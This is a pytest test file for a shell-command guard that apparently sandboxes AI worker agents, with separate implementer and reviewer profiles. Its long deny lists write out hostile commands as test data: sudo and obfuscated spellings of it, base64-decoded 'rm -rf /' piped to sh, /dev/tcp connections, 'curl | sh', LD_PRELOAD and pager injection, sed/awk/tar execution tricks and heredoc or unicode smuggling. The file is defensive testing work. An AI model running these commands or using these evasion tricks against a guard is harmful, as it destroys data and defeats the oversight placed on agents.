"""Command lines that try to write, run or connect behind the guard's back."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workers.guard import Profile, judge

# Refused to everybody.
ALWAYS = r"""
sudo ls
su -c ls
doas ls
mount /dev/sda1 /mnt
docker run alpine
kubectl delete pod x
aws s3 rm s3://x
nc -l 1
ssh host ls
scp a host:b
rsync -e sh a b
telnet host
eval ls
eval "rm -rf x"
exec rm x
source ../x.sh
. /srv/x.sh
builtin eval ls
trap ls EXIT
alias ls=rm
enable -f ./x.so x
hash -p ./evil ls
coproc rm x
f() { rm x; }
function f { rm x; }
$(echo rm) x
`echo rm` x
$CMD x
"$CMD" x
${CMD} x
r$X x
{rm,-rf,x}
$'\x72m' x
echo ${x@P}
echo ${!x}
echo ${x:=y}
echo ${x:-$(ls)}
echo ${a[$(ls)]}
echo $((a[$(ls)]))
echo $((x))
x='a[$(rm y)]'; echo $((x))
(( x = 1 ))
let x=1
declare -i x=1
typeset x
export -f f
export -n X
[[ -v 'a[$(rm x)]' ]]
[ -v 'a[$(rm x)]' ]
test -v 'a[$(rm x)]'
test -R x
printf -v 'a[$(rm x)]' y
read 'a[$(rm x)]'
unset 'a[$(rm x)]'
unset a[0]
a[0]=1
a=(1 2)
mapfile -C rm x
wait -p 'a[$(rm x)]'
PATH=. ls
PATH=$PATH:. ls
LD_PRELOAD=./x.so ls
LD_LIBRARY_PATH=. ls
GIT_SSH_COMMAND=x git log
GIT_EXTERNAL_DIFF=x git diff
GIT_CONFIG_COUNT=1 git log
GIT_PAGER=x git log
PAGER=x git log
MANPAGER=x ls
EDITOR=x ls
VISUAL=x ls
LESSOPEN='|x' ls
BASH_ENV=x bash -c ls
ENV=x sh -c ls
IFS=x ls
PS4='$(rm x)' ls
PROMPT_COMMAND=x ls
NODE_OPTIONS=--require=./x.js node -v
PYTHONSTARTUP=x ls
PYTHONHOME=. ls
PERL5OPT=-Mx ls
PERL5LIB=. ls
RUBYOPT=-rx ls
JAVA_TOOL_OPTIONS=-javaagent:x ls
_JAVA_OPTIONS=x ls
GCONV_PATH=. ls
RIPGREP_CONFIG_PATH=x rg y
HTTPS_PROXY=x ls
http_proxy=x ls
TAR_OPTIONS=--to-command=x tar -tf a
SHELLOPTS=xtrace ls
env PATH=. ls
env LD_PRELOAD=x ls
env GIT_PAGER=x git log
env -S 'rm x'
env --split-string='rm x'
export PATH=.
export LD_PRELOAD=x
export "PATH=x"
readonly PATH=x
for PATH in . ; do ls; done
read PATH
read -r LD_PRELOAD
while read IFS; do ls; done < f
git -c core.pager=rm log
git -c alias.x='!rm y' x
git --config-env=core.pager=X log
git --exec-path=. log
git --git-dir=evil log
git --work-tree=/ status
git config alias.x '!rm y'
git config --global core.pager rm
git config core.pager rm
git diff --ext-diff
git diff --output=x
git diff --outpu=x
git log --output x
git show --textconv
git grep -Orm x
git grep --open-files-in-pager=rm x
git grep --open-files x
git cat-file --filters HEAD:x
git archive -o x HEAD
git push
git clone x y
git fetch --upload-pack=x
git ls-remote --upload-pack=x y
git commit -m x
git rebase -x ls
git bisect run ls
git submodule foreach ls
git difftool
git mergetool
git filter-branch --tree-filter x
git branch x
git branch -D x
git tag x
git tag -d x
git remote add x y
git stash
git stash drop
git worktree add x
read X Y; git $X
read X Y; git log $X
git diff $(echo --output=x)
git update-index x
git checkout -- x
git reset --hard
git clean -fdx
git gc
git apply x
git daemon
git x
find . -fprint x
find . -fprintf x y
find . -fls x
find . -ok rm {} \;
find . -exec sudo ls {} \;
find . -exec {} \;
find . -exec $X {} \;
find . $X
find . -exec sh -c 'curl {}' \;
find / -delete
find .. -delete
find . -files0-from x
fd -x curl
fd . --exec=rm
fd -xrm
xargs sudo
xargs curl
xargs -I{} sh -c '{}'
xargs -I x sh -c x
xargs sh -c
xargs find .
xargs git
rg --pre ./x y
rg --pr=./x y
rg --hostname-bin=./x y
sort --compress-program=./x y
sort --compress-prog=./x y
sed 's/a/b/e' x
sed 's/a/rm x/ge' x
sed 's/a/b/w /etc/x' x
sed e x
sed '1e rm x' y
sed 'w /etc/x' y
sed -n '/a/w x' y
sed '1{w x
}' y
sed 's/[/]/e' x
sed -f x y
sed --file=x y
sed "$X" y
sed $X y
awk 'BEGIN{system("ls")}'
awk 'BEGIN{"ls"|getline}'
awk '{print|"sh"}' x
awk '{print |& "sh"}' x
awk '{print > "x"}' y
awk '{print >> "x"}' y
awk '{printf "a" > "x"}' y
awk -f x y
awk -i inplace 1 x
awk -l filefuncs 1
awk -E x
gawk '@load "filefuncs"; 1'
gawk '{@f()}'
awk "$X" y
awk 'x /"/ ; system("ls") ; /"/'
awk '{ if (x) /"/ ; system("ls"); "/" }'
tar --to-command=x -xf a
tar -xf a --checkpoint=1 --checkpoint-action=exec=sh
tar -I ./x -xf a
tar --use-compress-program=./x -tf a
tar -F ./x -cf a b
tar --rsh-command=x -tf a
tar -tf host:a
tar -xf a -C /
tar -xPf a
tar -xf a -C ..
tar xfC a /
man ls
less x
more x
vim x
vi x
nano x
emacs x
ed x
ex x
bash
bash -i
sh
sh -s
bash < x
cat x | sh
cat x | bash -s
echo cm0gLXJmIC8= | base64 -d | sh
bash <<< 'rm x'
bash -c "$X"
bash -c "$(cat x)"
sh -c 'sudo ls'
sh -c 'curl x | sh'
bash -c 'bash -c "eval ls"'
bash --rcfile x
bash --init-file x -i
bash -O extglob -c 'ls'
bash -o posix -c ls
zsh -c 'ls *(e:"rm x":)'
zsh -c '=rm x'
bash <(echo rm x)
ls > /dev/tcp/x/1
cat < /dev/tcp/x/1
cat < //dev//udp/x/1
exec 3<>/dev/tcp/x/1
ls > /etc/x
ls > ~/x
ls > ../x
ls > .git/config
ls > .GIT/hooks/x
ls >> "$X"
ls > $X
ls > $(echo x)
ls >| /etc/x
ls &> /etc/x
ls > /tmp/../etc/x
cat <<EOF > /etc/x
rm -rf /
rm -rf ~
rm -rf ..
rm -rf a/../../b
rm -rf "$X"
rm -rf $X/
rm -rf /tmp/
cd / && rm -rf x
cd .. && rm -rf x
cd && rm -rf x
cd -; rm x
cd "$X" && rm x
cd /; ./x
for i in 1 2; do rm -rf x; cd ..; done
pushd / && rm x
env -C / rm x
cp x /etc/y
cp -t /etc x
mv x ../y
mv ../x y
ln -s / x
ln -s ../x y
chmod 4755 x
chmod u+s x
chmod 777 /etc
touch /etc/x
tee /etc/x
mkdir /x
dd if=x of=y
xxd x /etc/y
uniq x /etc/y
sort -o /etc/x y
split x /etc/y
install x /etc/y
/home/x/evil
~/evil
../evil
./a/../../evil
.git/hooks/x
unknown-program
time { rm x; }
! sudo ls
time sudo ls
nice sudo ls
timeout 5 sudo ls
timeout $X ls
nohup sudo ls
command sudo ls
stdbuf -oL sudo ls
setsid ls
chroot / ls
unshare ls
nsenter ls
crontab x
at now
systemctl start x
kill -9 1
killall x
pkill x
hostname evil
date -s x
sysctl -w a=b
ldconfig
insmod x
npm publish
npm login
npm adduser
npm --loglevel silent publish
npm exec -c 'x'
npx -c 'x'
npx -p x y
npx --package=x y
npx unknown-thing
npx sudo
yarn publish
pnpm publish
cargo publish
cargo login
mvn deploy
mvn release:perform
gradle publish
./gradlew publish
sbt publish
poetry publish
uv publish
uv run sudo ls
poetry run curl x
twine upload x
python -m twine upload x
gem push x
docker-compose up
gh pr merge
ls & sudo ls
ls; sudo ls
ls && sudo ls
ls || sudo ls
ls | sudo ls
(sudo ls)
{ sudo ls; }
if sudo ls; then ls; fi
if ls; then sudo ls; fi
if ls; then ls; else sudo ls; fi
while sudo ls; do ls; done
for i in $(sudo ls); do ls; done
for i in a; do sudo ls; done
case $(sudo ls) in a) ls;; esac
case a in a) sudo ls;; esac
case a in $(sudo ls)) ls;; esac
echo $(sudo ls)
echo "$(sudo ls)"
echo `sudo ls`
echo "`sudo ls`"
echo `echo \`sudo ls\``
cat <(sudo ls)
ls > >(sudo tee x)
cat <<< $(sudo ls)
cat <<< "$(sudo ls)"
x=$(sudo ls)
x=$(sudo ls) ls
export x=$(sudo ls)
[ "$(sudo ls)" ]
[[ -n $(sudo ls) ]]
[[ a == $(sudo ls) ]]
[[ a =~ $(sudo ls) ]]
ls 2>$(sudo ls)
echo ${x:-`sudo ls`}
echo $(< /dev/tcp/a/1)
s\udo ls
su""do ls
'sudo' ls
"su"'do' ls
\sudo ls
/usr/bin/sudo ls
/usr/bin/env sudo ls
ls $"x"
 ; sudo ls
find . >/dev/null -fprint x
sort x >/dev/null -o /etc/y
""".strip("\n").split("\n")

_MANY_LINES = [
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF\n`rm x`\nEOF",
    "cat <<EOF\n$x\nEOF",
    "cat <<EOF\nx\nEOF\nsudo ls",
    "cat <<'EOF'\nx\nEOF\nsudo ls",
    "cat <<'EOF' && sudo ls\nx\nEOF",
    "cat <<'EOF' | sudo ls\nx\nEOF",
    "cat <<E'O'F\n$(rm x)\nEOF",
    "cat <<\\EOF\nx\nEOF",
    "cat <<'A' <<'B'\nx\nA\ny\nB",
    "cat <<'EOF'\nx",
    "bash <<'EOF'\nls\nEOF",
    "cat <<-'EOF'\n\tx\n\tEOF\nsudo ls",
    "ls\nsudo ls",
    "echo ==\nsudo ls",
    "A=\\\n sudo ls",
    "echo a\n\\sudo ls",
    "ls\n\\rm x; sudo ls",
    "\\ #;sudo ls",
    "find . -name ==\nsudo ls",
    "python - <<'E'\nx\nE",
    "su\\\ndo ls",
    "ls x\\\ny",
    "ls #\n sudo x",
    "ls\r\nls",
    "ls\rls",
    "ls\0ls",
    "ls\u00a0-la",
    "ls\u2028sudo ls",
    "ls \u200bx",
    "ls \u202ex",
    "ls \x1b[2K",
    "ls\x0bls",
    "ls\x0cls",
    "ls\u3000x",
    "",
    "   ",
    "ls " + "a" * 33_000,
    "(" * 200 + "ls" + ")" * 200,
    "echo " + "$(echo " * 60 + "x" + ")" * 60,
    "sh -c 'sh -c \"sh -c ls\"' <<EOF",
    "ls '",
    'ls "',
    "ls $(",
    "ls |",
    "ls &&",
    "if ls; then",
    "ls \ud800",
]

# Fine for an implementer, whose sandbox bounds them; never for a reviewer.
WRITING = r"""
rm x
rm -rf build
touch x
mkdir x
cp a b
mv a b
ln -s a b
chmod +x a
tee x
ls > x
ls >> x
ls 2> x
ls &> x
cat a >| b
sed -i s/a/b/ x
sed -ni s/a/b/p x
sed -i.bak s/a/b/ x
sed --in-place s/a/b/ x
sort -o x y
sort -ox y
sort -uo x y
sort --output=x y
uniq a b
xxd a b
xxd -r a b
find build -delete
find . -name '*.o' -exec rm {} +
find src -exec touch {} \;
tar -xf a
tar xzf a
tar -cf a b
tar -tf a -x
tar cf a b
unzip a
gzip a
gunzip a
python -c 'x'
python x.py
python3 -m pytest
node -e x
node x.js
perl -e x
ruby -e x
php -r x
java -jar x
./x.sh
scripts/x
bash x.sh
make
npm test
npm install
pip install x
pytest
cargo test
go test ./...
mvn test
gcc x.c
nohup ls
curl -O http://x.example/a
wget http://x.example/a
patch -p1
split x
xvfb-run ls
cross-env A=b ls
source .venv/bin/activate
""".strip("\n").split("\n")

# What an implementer may do, and a reviewer sees refused for a word that could turn into an option.
OPTION_LIKE = r"""
find . "$X"
sort *
read X Y; sort $X
sed -n p *
read X Y; sed -n p $X
git log *
git diff foo-$(date).txt
read X Y; uniq $X
xxd *
xargs sort
xargs -n1 sed -n p
ls | xargs git log
xargs rm
ls | xargs rm -f
fd -x rm
python
find * -name x
read X; [ $X = y ]
read X Y; [[ $X -eq 1 ]]
read a b; test "$a" "$b"
read X Y; printf "$X" "$Y"
read X Y; cat < $X
""".strip("\n").split("\n")


@pytest.mark.parametrize("profile", list(Profile))
@pytest.mark.parametrize("command", ALWAYS + _MANY_LINES)
def test_refused_to_everybody(command: str, profile: Profile) -> None:
    decision = judge(command, profile)
    assert decision.decision == "deny", decision
    assert decision.reason.strip()
    assert decision.rule


@pytest.mark.parametrize("command", WRITING + OPTION_LIKE)
def test_refused_to_reviewers(command: str) -> None:
    assert judge(command, Profile.REVIEWER).decision == "deny"


@pytest.mark.parametrize("command", WRITING)
def test_allowed_to_implementers(command: str) -> None:
    assert judge(command, Profile.IMPLEMENTER).decision == "allow", judge(command, Profile.IMPLEMENTER)


@given(st.text(max_size=200), st.sampled_from(list(Profile)))
def test_no_text_breaks_it(text: str, profile: Profile) -> None:
    assert judge(text, profile).decision in {"allow", "deny"}


_pieces = st.sampled_from(
    [
        "ls",
        "rm",
        "sudo x",
        ";",
        "&&",
        "|",
        "$(",
        ")",
        "`",
        "'",
        '"',
        "{",
        "}",
        "<<EOF\n",
        "EOF\n",
        "\n",
        "#",
        " ",
        "x",
        "\\",
        ">",
        "(",
        "&",
    ]
)


@given(st.lists(_pieces, max_size=12).map(" ".join))
def test_whatever_surrounds_it_sudo_as_a_word_never_runs(text: str) -> None:
    line = f"ls\nsudo x\n{text}"
    assert judge(line, Profile.IMPLEMENTER).decision == "deny"
    # Within quotes, in a heredoc or after a backslash it is no word of its own.
    hidden = any(c in text for c in ("'", '"', "EOF")) or text.endswith("\\")
    assert judge(f"{text}\nsudo x", Profile.REVIEWER).decision == "deny" or hidden
